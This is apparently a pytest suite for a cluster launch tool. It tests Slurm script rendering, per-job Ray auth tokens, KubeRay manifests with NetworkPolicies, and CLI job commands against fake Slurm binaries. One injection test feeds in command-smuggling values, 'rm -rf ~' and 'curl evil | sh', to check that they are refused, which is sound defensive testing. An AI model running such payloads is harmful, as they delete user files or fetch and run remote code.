"""Cluster launch files: the sbatch script renders for a 2-node allocation, parses, and starts every Ray process
with a private per-job token; the KubeRay RayJob has the fields the operator needs, token auth from a Secret and
NetworkPolicies; ray is pinned to releases with token auth; the Jobs API commands find the token and explain a
refusal in one line; `areal submit --slurm` and status/logs/stop of a Slurm job id work through fake Slurm commands
(the real ones: tests/e2e/test_slurm_real.py)."""

import http.server
import os
import re
import shutil
import stat
import subprocess
import sys
import threading
import tomllib
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement

from launch import jobs
from launch.cli import main
from launch.slurm.render import SlurmJob, render

ROOT = Path(__file__).resolve().parents[2]


def test_the_sbatch_script_renders_for_two_nodes_and_passes_bash_n(tmp_path):
    text = render(SlurmJob(nodes=2, cpus_per_node=8, gpus_per_node=1, out_dir="/shared/runs/a b",
                           overrides=["experiment=arith_tiny", "rollout.workers=2"],
                           extra_sbatch=["#SBATCH --partition=gpu"]))
    assert not re.findall(r"@\w+@", text)
    for line in ("#SBATCH --nodes=2", "#SBATCH --cpus-per-task=8", "#SBATCH --gpus-per-node=1",
                 "#SBATCH --partition=gpu"):
        assert line in text
    assert "ray start --head" in text and 'ray start --address="$head_ip:$port"' in text
    assert "out_dir='/shared/runs/a b' experiment=arith_tiny rollout.workers=2" in text
    script = tmp_path / "job.sbatch"
    script.write_text(text)
    bash = shutil.which("bash")
    assert subprocess.run([bash, "-n", str(script)], capture_output=True).returncode == 0


# Stand-ins for Slurm and Ray: `srun` applies --export as Slurm does, with --export=NONE as the site default (so
# only what the script passes explicitly reaches a step); `ray` and `areal` record what they were started with.
FAKE_SRUN = """#!/bin/bash
export_to=NONE
while [[ $# -gt 0 ]]; do
    case "$1" in
        -w) shift 2 ;;
        --export=*) export_to=${1#--export=}; shift ;;
        -*) shift ;;
        *) break ;;
    esac
done
if [[ $export_to != ALL* ]]; then
    exec env -i PATH="$PATH" HOME="$HOME" LOG="$LOG" "$@"
fi
IFS=, read -ra pairs <<< "${export_to#ALL}"
for pair in "${pairs[@]}"; do [[ -n $pair ]] && export "$pair"; done
exec "$@"
"""
FAKE_RAY_PROCESS = """#!/bin/bash
path=${RAY_AUTH_TOKEN_PATH:-}
echo "$(basename "$0") $1|${RAY_AUTH_MODE:-unset}|$path|$(stat -c %a "$path")|$(stat -c %a "$(dirname "$path")")|\
$(cat "$path")" >> "$LOG"
"""
FAKES = {"srun": FAKE_SRUN, "ray": FAKE_RAY_PROCESS, "areal": FAKE_RAY_PROCESS, "sleep": "#!/bin/bash\n",
         "scontrol": "#!/bin/bash\necho n1; echo n2; echo n3\n", "hostname": "#!/bin/bash\necho 10.0.0.1\n",
         "python": f"#!/bin/bash\nexec {sys.executable} \"$@\"\n"}


def run_sbatch_script(tmp_path: Path, job: SlurmJob, job_id: str) -> list[list[str]]:
    """Run the rendered script with the fakes; one record (command, mode, path, file mode, dir mode, token) each."""
    fakes = tmp_path / "fakes"
    fakes.mkdir(exist_ok=True)
    for name, text in FAKES.items():
        (fakes / name).write_text(text)
        (fakes / name).chmod(0o755)
    (tmp_path / "venv/bin").mkdir(parents=True, exist_ok=True)
    (tmp_path / "venv/bin/activate").write_text("")
    script = tmp_path / "job.sbatch"
    script.write_text(render(job))
    log = tmp_path / f"{job_id}.log"
    env = {"PATH": f"{fakes}:{os.environ['PATH']}", "HOME": str(tmp_path / "home"), "LOG": str(log),
           "SLURM_JOB_ID": job_id, "SLURM_JOB_NODELIST": "n[1-3]", "SLURM_CPUS_PER_TASK": "8"}
    # `wait`: the backgrounded head and workers have recorded before the job's exit removes the token
    done = subprocess.run(["bash", "-c", 'source "$0"; wait', str(script)], env=env, capture_output=True, text=True,
                          timeout=30)
    assert done.returncode == 0, done.stderr
    return [line.split("|") for line in log.read_text().splitlines()]


def test_every_ray_process_of_the_sbatch_job_gets_a_private_per_job_token(tmp_path):
    job = SlurmJob(nodes=3, project_dir=str(tmp_path), venv=str(tmp_path / "venv"), out_dir=str(tmp_path / "out"))
    text = render(job)
    starts = [line for line in text.splitlines() if "srun " in line and not line.lstrip().startswith("#")]
    # the head, the worker loop and the driver are each told explicitly; only the IP probe is not
    assert sum('--export="$auth_env"' in line for line in starts) == 3 == len(starts) - 1
    assert 'auth_env="ALL,RAY_AUTH_MODE=token,RAY_AUTH_TOKEN_PATH=$RAY_AUTH_TOKEN_PATH"' in text

    records = run_sbatch_script(tmp_path, job, "4242")
    token_file = tmp_path / "home/.areal/ray-auth/ray-4242.token"
    assert sorted(r[0] for r in records) == ["areal train", "ray start", "ray start", "ray start"]
    tokens = set()
    for command, mode, path, file_mode, dir_mode, token in records:
        assert (mode, path, file_mode, dir_mode) == ("token", str(token_file), "600", "700"), command
        tokens.add(token)
    (token,) = tokens
    assert re.fullmatch(r"[0-9a-f]{64}", token)
    assert not token_file.exists()  # removed when the job ends

    # another job gets another token; a relative --token-dir becomes an absolute path every node resolves alike
    job.token_dir = "tokens"
    records = run_sbatch_script(tmp_path, job, "4243")
    assert {r[2] for r in records} == {str(tmp_path / "tokens/ray-4243.token")}
    assert {r[5] for r in records} != tokens
    assert stat.S_IMODE((tmp_path / "tokens").stat().st_mode) == 0o700


def test_gpu_lines_are_left_out_on_cpu_clusters_and_bad_values_are_refused():
    assert "--gpus-per-node" not in render(SlurmJob(gpus_per_node=0))
    with pytest.raises(ValueError, match="nodes"):
        SlurmJob(nodes=0)
    with pytest.raises(ValueError, match="#SBATCH"):
        SlurmJob(extra_sbatch=["--partition=gpu"])
    with pytest.raises(ValueError, match="token_dir"):
        SlurmJob(token_dir="/shared/a,b")


@pytest.mark.parametrize("field, value", [
    ("job_name", "areal\nrm -rf ~"), ("time_limit", "01:00:00\ncurl evil | sh"), ("log_dir", "logs\rx"),
    ("extra_sbatch", ["#SBATCH --partition=gpu\necho injected"]), ("overrides", ["seed=1\u001b[2J"]),
])
def test_a_control_character_in_any_field_is_refused_before_it_reaches_the_script(field, value):
    with pytest.raises(ValueError, match=f"{field} must not contain control characters"):
        SlurmJob(**{field: value})


def test_areal_slurm_writes_the_script(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert main(["slurm", "--nodes", "2", "--script", "s.sbatch", "experiment=arith_tiny"]) == 0
    assert "#SBATCH --nodes=2" in (tmp_path / "s.sbatch").read_text() and (tmp_path / "runs/slurm-logs").is_dir()


def kuberay_documents() -> dict[str, list[dict]]:
    docs = [d for d in yaml.safe_load_all((ROOT / "launch/k8s/rayjob.yaml").read_text()) if d]
    return {kind: [d for d in docs if d["kind"] == kind] for kind in {d["kind"] for d in docs}}


def test_the_kuberay_rayjob_has_what_the_operator_needs():
    (job,) = kuberay_documents()["RayJob"]
    assert job["apiVersion"] == "ray.io/v1" and job["metadata"]["name"]
    spec = job["spec"]
    assert spec["entrypoint"].startswith("areal train ") and "cluster.address=auto" in spec["entrypoint"]
    cluster = spec["rayClusterSpec"]
    head = cluster["headGroupSpec"]
    # the submitter pod and the operator call the Jobs API from other pods: loopback would shut them out
    assert head["rayStartParams"]["dashboard-host"] == "0.0.0.0"
    assert head["template"]["spec"]["containers"][0]["image"]
    for group in cluster["workerGroupSpecs"]:
        assert group["groupName"] and group["replicas"] >= 1 and "rayStartParams" in group
        assert group["template"]["spec"]["containers"][0]["image"]
    yaml.safe_load(spec["runtimeEnvYAML"])


def test_every_kuberay_pod_runs_with_token_auth_from_one_secret():
    (job,) = kuberay_documents()["RayJob"]
    cluster = job["spec"]["rayClusterSpec"]
    secret = cluster["authOptions"]["secretName"]
    assert cluster["authOptions"]["mode"] == "token" and tuple(map(int, cluster["rayVersion"].split(".")[:2])) >= (2, 52)
    pods = {"head": cluster["headGroupSpec"]["template"], "submitter": job["spec"]["submitterPodTemplate"],
            **{g["groupName"]: g["template"] for g in cluster["workerGroupSpecs"]}}
    for name, pod in pods.items():
        env = {e["name"]: e for e in pod["spec"]["containers"][0]["env"]}
        assert env["RAY_AUTH_MODE"]["value"] == "token", name
        assert env["RAY_AUTH_TOKEN"]["valueFrom"]["secretKeyRef"] == {"name": secret, "key": "auth_token"}, name
        assert "value" not in env["RAY_AUTH_TOKEN"], name  # never the token itself in the manifest
    assert f"kubectl create secret generic {secret}" in (ROOT / "launch/k8s/rayjob.yaml").read_text()


def test_kuberay_network_policies_admit_only_the_jobs_own_pods_and_the_operator():
    docs = kuberay_documents()
    (job,) = docs["RayJob"]
    cluster = job["spec"]["rayClusterSpec"]
    ray_labels = [cluster["headGroupSpec"]["template"]["metadata"]["labels"]]
    ray_labels += [g["template"]["metadata"]["labels"] for g in cluster["workerGroupSpecs"]]
    submitter_labels = job["spec"]["submitterPodTemplate"]["metadata"]["labels"]

    def selects(selector: dict, labels: dict) -> bool:
        return all(labels.get(k) == v for k, v in selector["matchLabels"].items())

    policies = docs["NetworkPolicy"]
    assert all(p["spec"]["policyTypes"] == ["Ingress"] for p in policies)
    # every Ray pod (head: KubeRay adds ray.io/node-type) is selected, and admits the other Ray pods of the job
    for labels in [{**ray_labels[0], "ray.io/node-type": "head"}, *ray_labels[1:]]:
        mine = [p for p in policies if selects(p["spec"]["podSelector"], labels)]
        peers = [peer for p in mine for rule in p["spec"]["ingress"] for peer in rule["from"]
                 if "namespaceSelector" not in peer and "ports" not in rule]
        assert peers and all(any(selects(peer["podSelector"], other) for other in ray_labels) for peer in peers)
    # only the head admits anyone else, and only on the dashboard port: the submitter and the KubeRay operator
    outside = [(p, rule) for p in policies for rule in p["spec"]["ingress"] if "ports" in rule]
    assert outside and all(p["spec"]["podSelector"]["matchLabels"].get("ray.io/node-type") == "head"
                           for p, _ in outside)
    for _, rule in outside:
        assert [port["port"] for port in rule["ports"]] == [8265]
        froms = rule["from"]
        assert any(selects(peer["podSelector"], submitter_labels) for peer in froms)
        assert any(peer["podSelector"]["matchLabels"] == {"app.kubernetes.io/name": "kuberay-operator"}
                   for peer in froms if "namespaceSelector" in peer)
    text = (ROOT / "launch/k8s/rayjob.yaml").read_text()
    assert "NetworkPolicies" in text and "6379" in text and "8265" in text


def test_ray_is_pinned_to_releases_with_token_auth():
    deps = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    (ray,) = [Requirement(d) for d in deps if Requirement(d).name == "ray"]
    assert "default" in ray.extras
    # RAY_AUTH_MODE=token arrived in Ray 2.52.0
    assert not ray.specifier.contains("2.51.9") and ray.specifier.contains("2.52.0")


def test_the_jobs_commands_find_the_token_in_rays_order(tmp_path, monkeypatch):
    for var in ("RAY_AUTH_MODE", "RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    assert jobs.token() == ("", "")
    (tmp_path / ".ray").mkdir()
    (tmp_path / ".ray/auth_token").write_text("from-home\n")
    assert jobs.token() == ("from-home", str(tmp_path / ".ray/auth_token"))
    (tmp_path / "job.token").write_text("from-path")
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(tmp_path / "job.token"))
    assert jobs.token() == ("from-path", str(tmp_path / "job.token"))
    monkeypatch.setenv("RAY_AUTH_TOKEN", "from-env")
    assert jobs.token() == ("from-env", "$RAY_AUTH_TOKEN")
    (tmp_path / "given.token").write_text("given")
    assert jobs.token(str(tmp_path / "given.token")) == ("given", str(tmp_path / "given.token"))
    monkeypatch.setenv("RAY_AUTH_MODE", "disabled")
    assert jobs.token() == ("", "")
    with pytest.raises(ValueError, match="--token-file: cannot read the Ray token file .*missing"):
        jobs.token(str(tmp_path / "missing"))
    (tmp_path / "empty").write_text("\n")
    with pytest.raises(ValueError, match="--token-file: the Ray token file .* is empty"):
        jobs.token(str(tmp_path / "empty"))


class TokenDashboard(http.server.BaseHTTPRequestHandler):
    """A dashboard that wants `Bearer right`: 401 without a token, 403 with another (as Ray's middleware)."""

    def do_GET(self):
        header = self.headers.get("Authorization", "")
        self.send_response(401 if not header else 403 if header != "Bearer right" else 200)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def token_dashboard():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), TokenDashboard)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("command", ["submit", "status", "logs", "stop"])
def test_a_refused_token_is_one_line_naming_the_fix(token_dashboard, tmp_path, monkeypatch, capsys, command):
    monkeypatch.setenv("RAY_AUTH_MODE", "disabled")  # no token from the environment or ~/.ray
    args = [command, "--address", token_dashboard] + (["experiment=arith_tiny"] if command == "submit" else ["j1"])
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "uses token authentication and no token was given" in err
    assert "--token-file" in err and "RAY_AUTH_TOKEN_PATH" in err
    (tmp_path / "wrong.token").write_text("wrong")
    assert main(args + ["--token-file", str(tmp_path / "wrong.token")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"rejected the token from {tmp_path / 'wrong.token'}" in err
    assert "--token-file" in err


# Stand-ins for Slurm's client commands, driven by files under $SLURM_FAKE: jobs/ID holds a known job's state,
# sacct/ID a job only accounting remembers, `down` makes slurmctld unreachable; sbatch keeps the script it was fed.
FAKE_SLURM = {
    "sbatch": """#!/bin/bash
[[ -e $SLURM_FAKE/down ]] && { echo "sbatch: error: Batch job submission failed: Unable to contact slurm controller \
(connect failure)" >&2; exit 1; }
echo "$@" > "$SLURM_FAKE/sbatch.args"
cat > "$SLURM_FAKE/submitted.sbatch"
mkdir -p "$SLURM_FAKE/jobs" && echo PENDING > "$SLURM_FAKE/jobs/4242"
echo "4242;areal-test"
""",
    "scontrol": """#!/bin/bash
id=${@: -1}
[[ -e $SLURM_FAKE/jobs/$id ]] || { echo "slurm_load_jobs error: Invalid job id specified" >&2; exit 1; }
state=$(cat "$SLURM_FAKE/jobs/$id")
echo "JobId=$id JobName=areal UserId=me(1000) JobState=$state Reason=$([[ $state == PENDING ]] && echo Resources \
|| echo None) Dependency=(null) ExitCode=0:$([[ $state == CANCELLED ]] && echo 15 || echo 0) \
WorkDir=/home/me/my runs StdErr=$SLURM_FAKE/areal-$id.out StdOut=$SLURM_FAKE/areal-$id.out Power="
""",
    "scancel": """#!/bin/bash
[[ -e $SLURM_FAKE/jobs/$1 ]] || { echo "scancel: error: Kill job error on job id $1: Invalid job id specified" >&2; \
exit 1; }
echo CANCELLED > "$SLURM_FAKE/jobs/$1"
""",
    "sacct": """#!/bin/bash
id=${@: -3:1}
[[ -e $SLURM_FAKE/sacct/$id ]] || { echo "sacct: error: Slurm accounting storage is disabled" >&2; exit 1; }
cat "$SLURM_FAKE/sacct/$id"
""",
}


@pytest.fixture
def fake_slurm(tmp_path, monkeypatch) -> Path:
    """Fake sbatch/scontrol/scancel/sacct first on PATH; returns their state directory."""
    bin_dir, state = tmp_path / "slurm-bin", tmp_path / "slurm-state"
    bin_dir.mkdir()
    state.mkdir()
    for name, text in FAKE_SLURM.items():
        (bin_dir / name).write_text(text)
        (bin_dir / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    monkeypatch.setenv("SLURM_FAKE", str(state))
    return state


def test_submit_slurm_sbatches_the_script_areal_slurm_writes_and_says_how_to_follow_it(fake_slurm, tmp_path, capsys,
                                                                                       monkeypatch):
    monkeypatch.chdir(tmp_path)
    options = ["--nodes", "1", "--cpus-per-node", "2", "--time", "00:30:00", "--log-dir", str(tmp_path / "logs"),
               "--out-dir", str(tmp_path / "run"), "--partition", "debug"]
    assert main(["submit", "--slurm", *options, "experiment=ci_tiny", "total_steps=2"]) == 0
    out = capsys.readouterr().out
    assert out.split()[1] == "4242" and f"out_dir={tmp_path / 'run'}" in out
    assert f"{tmp_path / 'logs'}/areal-4242.out" in out and "areal logs 4242 --follow" in out
    assert "ray-4242.token" in out
    assert (fake_slurm / "sbatch.args").read_text().split() == ["--parsable"]  # the script itself comes on stdin
    assert main(["slurm", *options, "--script", "same.sbatch", "experiment=ci_tiny", "total_steps=2"]) == 0
    assert (fake_slurm / "submitted.sbatch").read_text() == (tmp_path / "same.sbatch").read_text()
    assert "#SBATCH --partition=debug" in (tmp_path / "same.sbatch").read_text()
    assert (tmp_path / "logs").is_dir()  # Slurm would not create it


def test_submit_slurm_checks_the_overrides_here_and_sends_nothing_when_they_fail(fake_slurm, tmp_path, capsys):
    assert main(["submit", "--slurm", "--log-dir", str(tmp_path), "experiment=ci_tiny", "rollout.workers=abc"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "rollout.workers" in err and "nothing was submitted" in err
    assert not (fake_slurm / "submitted.sbatch").exists()


def test_a_numeric_job_id_is_a_slurm_job_for_status_logs_and_stop(fake_slurm, capsys):
    (fake_slurm / "jobs").mkdir()
    (fake_slurm / "jobs/77").write_text("PENDING")
    assert main(["status", "77"]) == 0 and capsys.readouterr().out == "77: PENDING (Resources)\n"
    assert main(["logs", "77"]) == 0 and capsys.readouterr().out == ""  # no output file before it starts
    (fake_slurm / "jobs/77").write_text("RUNNING")
    (fake_slurm / "areal-77.out").write_text("Ray head: n1\nstep 1\n")
    assert main(["status", "77"]) == 0 and capsys.readouterr().out == "77: RUNNING\n"
    assert main(["logs", "77"]) == 0 and capsys.readouterr().out == "Ray head: n1\nstep 1\n"
    assert main(["stop", "77"]) == 0 and capsys.readouterr().out == "77: stop requested\n"
    assert main(["status", "77"]) == 0 and capsys.readouterr().out == "77: CANCELLED (exit code 0:15)\n"
    assert main(["logs", "77", "--follow"]) == 0 and capsys.readouterr().out == "Ray head: n1\nstep 1\n"
    assert main(["stop", "77"]) == 0 and capsys.readouterr().out == "77: already ended\n"


def test_a_job_slurmctld_has_forgotten_is_read_from_accounting(fake_slurm, capsys):
    (fake_slurm / "sacct").mkdir()
    (fake_slurm / "sacct/78").write_text("CANCELLED by 1000|0:15\n")
    assert main(["status", "78"]) == 0 and capsys.readouterr().out == "78: CANCELLED (exit code 0:15)\n"


@pytest.mark.parametrize("argv", [["status", "99"], ["logs", "99"], ["stop", "99"]])
def test_an_unknown_slurm_job_id_is_one_line(fake_slurm, capsys, argv):
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "unknown Slurm job 99" in err


def test_slurmctld_not_answering_is_one_line_naming_the_check(fake_slurm, tmp_path, capsys):
    (fake_slurm / "down").touch()
    assert main(["submit", "--slurm", "--log-dir", str(tmp_path), "experiment=ci_tiny"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "slurmctld is not answering" in err and "scontrol ping" in err


def test_submit_slurm_without_sbatch_is_one_line_naming_the_fix(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))  # no Slurm commands at all
    assert main(["submit", "--slurm", "--log-dir", str(tmp_path), "experiment=ci_tiny"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "sbatch not found on PATH" in err and "areal slurm" in err


@pytest.mark.parametrize("argv, message", [
    (["submit", "--slurm", "--address", "http://h:8265"], "--address only apply to the Ray Jobs API"),
    (["submit", "--nodes", "2"], "--nodes set a Slurm job: add --slurm"),
])
def test_ray_jobs_and_slurm_options_do_not_mix(capsys, argv, message):
    assert main([*argv, "experiment=ci_tiny"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and message in err


def test_each_ray_of_a_slurm_job_keeps_its_files_in_a_directory_of_the_jobs_own():
    text = render(SlurmJob(nodes=2))
    assert "ray_tmp=/tmp/areal-ray-$SLURM_JOB_ID" in text
    starts = [line for line in text.splitlines() if "ray start" in line]
    assert len(starts) == 2 and all('--temp-dir="$ray_tmp"' in line for line in starts)
